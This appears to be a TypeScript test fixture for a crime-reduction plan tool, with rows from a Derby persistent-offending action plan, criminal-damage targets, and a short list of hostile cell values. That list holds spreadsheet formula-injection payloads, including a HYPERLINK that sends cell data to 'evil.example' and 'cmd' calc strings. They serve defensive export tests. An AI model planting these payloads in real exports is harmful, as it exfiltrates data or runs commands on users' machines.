/**
 * Plans built by hand for the share tests: the Derby persistent-offending plan of seed 003
 * (objective sections, the header repeated under each, a Manager column holding a name and an
 * agency), and a hostile plan whose cells try formula injection.
 */
import { Action, Status, Target } from '../../../src/core/plan';
import { MeasurementRow } from '../../../src/core/share/uniform-format';

const SHEET = 'Persistent Offending';
const PRIORITY = 'Persistent Offending';

const OBJECTIVES: Record<string, string> = {
  '1': 'Objective 1 – Develop and analyse high quality data on domestic burglary',
  '2': 'Objective 2 – Develop partnership action plans to reduce domestic burglary in identified priority geographical areas',
  '3': 'Objective 3 - Develop a partnership action plan to break the cycle of drug related persistent offending',
  '4': 'Objective 4 – Develop partnership services to support the victims of domestic burglary with particular emphasis on vulnerable and repeat victims.',
  '5': 'Objective 5 – Develop a partnership action plan to reduce the environmental opportunities for domestic burglary',
  '6': 'Objective 6 – Reduce the fear of domestic burglary whilst reinforcing the home security message',
};

/** [ref, action, manager cell as written, person, agency, timescale, start, due, evaluation criteria] */
type Row = [string, string, string, string, string | null, string, string | null, string | null, string];

export const SEED_003_ROWS: Row[] = [
  [
    '1.1',
    'Gain knowledge of the national picture of drugs and crime to inform local strategy.',
    "Tim O'Neill CDRP",
    "Tim O'Neill",
    'CDRP',
    'September 2003, 2004, 2005',
    '2003-09-01',
    '2005-09-30',
    'Measured by CDRP self assessment criteria 2.7\nAnnual report to Strategy Implementation Group',
  ],
  [
    '1.2',
    'Assess the viability of a family intelligence and youth crime prevention project for the Derwent area.',
    'Dave Simmonds CDRP Team',
    'Dave Simmonds',
    'CDRP Team',
    'July – October 2003',
    '2003-07-01',
    '2003-10-31',
    'Options report',
  ],
  [
    '1.3',
    'Assess the impact of burglary on “virtual communities” especially BME, asylum-seeker and refugee communities in order to target prevention measure effectively.',
    "Tim O'Neill CDRP",
    "Tim O'Neill",
    'CDRP',
    'December 2003',
    '2003-12-01',
    '2003-12-31',
    'Impact assessment\nBespoke interventions for specific communities',
  ],
  [
    '2.1',
    'Develop and implement a stolen goods market reduction strategy.',
    'Dave Simmonds CDRP Team',
    'Dave Simmonds',
    'CDRP Team',
    'September 2003',
    '2003-09-01',
    '2003-09-30',
    'Measured by CDRP self assessment criterion 2.7\nReduction in burglary rates',
  ],
  [
    '2.2',
    'Conduct a review of mentoring schemes, options to improve capacity and focus, consideration of schemes promoting role modelling in neighbourhoods lacking positive images.',
    'Dave Simmonds CDRP Team',
    'Dave Simmonds',
    'CDRP Team',
    'March 2004',
    '2004-03-01',
    '2004-03-31',
    'Improved capacity of mentorship opportunities',
  ],
  [
    '3.1',
    'Investigate options for improving early access to drug treatment for persistent offenders.',
    'Helen Boocock Probation',
    'Helen Boocock',
    'Probation',
    'April 2004',
    '2004-04-01',
    '2004-04-30',
    'Time from referral to commencement of treatment for persistent offenders',
  ],
  [
    '3.2',
    'Strategically and operationally support the development and expansion of housing and support schemes for adult and young offenders and people with substance misuse problems to help them avoid becoming homeless or returning to crime.',
    'Dave Simmonds CDRP Team',
    'Dave Simmonds',
    'CDRP Team',
    'March 2004',
    '2004-03-01',
    '2004-03-31',
    'Number of tenancies supported',
  ],
  [
    '3.3',
    'Assess the impact of police, probation and CJS initiatives under "Narrowing the Justice Gap" on Crime & Disorder Partnership work in the city.',
    'Helen Boocock Probation',
    'Helen Boocock',
    'Probation',
    'September 2003',
    '2003-09-01',
    '2003-09-30',
    'Discussion document on linkages, conflicts and gaps',
  ],
  [
    '3.4',
    'Explore options for increasing referrals into education, employment and training for persistent offenders and people at risk of persistent offending',
    'Dave Simmonds CDRP Team',
    'Dave Simmonds',
    'CDRP Team',
    'September 2003',
    '2003-09-01',
    '2003-09-30',
    'Increased take up of education, training and employment opportunities',
  ],
  ['4.1', 'Develop a partnership victim strategy.', 'Andy Luscombe CDRP', 'Andy Luscombe', 'CDRP', 'June – Oct 2003', '2003-06-01', '2003-10-31', 'Published strategy'],
  [
    '4.2',
    'Assist the Victim Support Scheme in a review of the way victim data is obtained, shared and presented for the benefit of the scheme and the partnership.',
    "Tim O'Neill CDRP",
    "Tim O'Neill",
    'CDRP',
    'December 2004',
    '2004-12-01',
    '2004-12-31',
    'More streamlined procedure in place',
  ],
  [
    '4.3',
    'Review the work of the Burglary Reduction Project to establish what aspects have worked and publish recommendations, including options for continuing the work being done by the team.',
    'Dave Simmonds CDRP Team',
    'Dave Simmonds',
    'CDRP Team',
    'October 2003',
    '2003-10-01',
    '2003-10-31',
    'Report delivered',
  ],
  [
    '4.4',
    'Explore options to extend the target hardening service to other areas of the city and improve the take up rate amongst victims.',
    'Dave Simmonds CDRP Team',
    'Dave Simmonds',
    'CDRP Team',
    'October 2003',
    '2003-10-01',
    '2003-10-31',
    'Decreased repeat victimisation rate',
  ],
  [
    '5.1',
    'Target hardening, fencing, alley-gating and subsidised alarm service in high priority areas.',
    'Andy Smith Derby Division',
    'Andy Smith',
    'Derby Division',
    'June 2003 – March 2004',
    '2003-06-01',
    '2004-03-31',
    'Reduction in burglary rates on the project areas',
  ],
  [
    '6.1',
    'Develop and implement a comprehensive media and communications strategy.',
    'Dave Simmonds CDRP',
    'Dave Simmonds',
    'CDRP',
    'March 2003',
    '2003-03-01',
    '2003-03-31',
    'Measured by CDRP self assessment criteria 3.3 & 9.4',
  ],
  [
    '6.2',
    'Produce and maintain a community development and awareness plan to tackle problems of home security, fear of crime and the “siege mentality” in the Derwent area.',
    'Karen Oliffe NDC',
    'Karen Oliffe',
    'NDC',
    'Current and ongoing through tenure of strategy',
    null,
    null,
    'Reduction in fear of crime as measured by existing surveys & consultation.',
  ],
  [
    '6.3',
    'Develop a schools programme to convey messages about burglary and home security and improve the flow of information between the community and agencies.',
    'Sharon Squires',
    'Sharon Squires',
    null,
    'Summer term 2003',
    '2003-04-01',
    '2003-07-31',
    'Number of children reached',
  ],
];

/** Every name token of the officers in seed 003. */
export const SEED_003_NAME_WORDS = ['Tim', "O'Neill", 'Dave', 'Simmonds', 'Helen', 'Boocock', 'Andy', 'Luscombe', 'Smith', 'Karen', 'Oliffe', 'Sharon', 'Squires'];

const STATUSES: (Status | null)[] = ['Complete', 'On track', 'At risk', 'Off track', 'Not started', 'Cancelled', null];

/**
 * The 17 actions of seed 003. `split`: the structure step separated the person from the agency
 * (leadOfficer "Tim O'Neill", leadAgency "CDRP"); otherwise the whole Manager cell sits in
 * leadOfficer and leadAgency is empty, as a cruder layout might leave it.
 */
export function seed003Actions(split = true): Action[] {
  let row = 10;
  let objective = '';
  return SEED_003_ROWS.map(([ref, text, manager, person, agency, timescale, start, due, measure], i) => {
    const obj = ref.split('.')[0];
    if (obj !== objective) {
      objective = obj;
      row += 3; // section row, repeated header
    }
    row += 1;
    return {
      ref,
      priority: PRIORITY,
      strand: null,
      theme: OBJECTIVES[obj],
      action: text,
      leadOfficer: split ? person : manager,
      leadAgency: split ? agency : null,
      measure,
      timescale,
      start,
      due,
      status: STATUSES[i % STATUSES.length],
      flags: [],
      source: { sheet: SHEET, cell: `A${row}` },
    };
  });
}

export function action(over: Partial<Action> & Pick<Action, 'action'>): Action {
  return {
    ref: null,
    priority: null,
    strand: null,
    theme: null,
    leadOfficer: null,
    leadAgency: null,
    measure: null,
    timescale: null,
    start: null,
    due: null,
    status: null,
    flags: [],
    source: { sheet: 'Plan', cell: 'A2' },
    ...over,
  };
}

/** The criminal damage target of seed 001: 1140 in 2003/04 to 960 by 2007/08 (-16%). */
export function criminalDamageTarget(): Target {
  return {
    id: 'T1',
    priority: 'Criminal Damage',
    indicator: 'Criminal damage offences',
    unit: 'count',
    direction: 'reduce',
    baseline: { period: '2003/04', value: 1140 },
    target: { period: '2007/08', value: 960, change: -0.16 },
    stated: [{ period: '2004/05', value: 1095, cell: 'C5' }],
    source: { sheet: 'Targets', cell: 'A3' },
  };
}

export function criminalDamageMeasurements(): MeasurementRow[] {
  const base = { targetId: 'T1', indicator: 'Criminal damage offences', priority: 'Criminal Damage', target: 960, unit: 'count' as const, direction: 'reduce' as const };
  return [
    { ...base, period: '2005/06', periodStart: '2005-04-01', periodEnd: '2006-03-31', value: 1060, milestone: 1050, variance: 10, rag: 'amber', source: { sheet: 'Progress', cell: 'C4' } },
    { ...base, period: '2004/05', periodStart: '2004-04-01', periodEnd: '2005-03-31', value: 1050, milestone: 1095, variance: -45, rag: 'green', source: { sheet: 'Progress', cell: 'C3' } },
    { ...base, period: '2006/07', periodStart: '2006-04-01', periodEnd: '2007-03-31', value: null, milestone: 1005, variance: null, rag: null, source: null },
  ];
}

/** Cells that try to run formulas or commands when the export is opened in a spreadsheet. */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
  '+44 1332 123456',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\tTAB=1+1',
  '\r=1+1',
  "'=already quoted",
];

export function hostileActions(): Action[] {
  return HOSTILE_TEXTS.map((t, i) =>
    action({
      ref: t,
      priority: t,
      strand: t,
      theme: t,
      action: t,
      leadOfficer: null,
      leadAgency: t,
      source: { sheet: t.replace(/[\t\r]/g, '') || 'Plan', cell: `B${i + 2}` },
    }),
  );
}
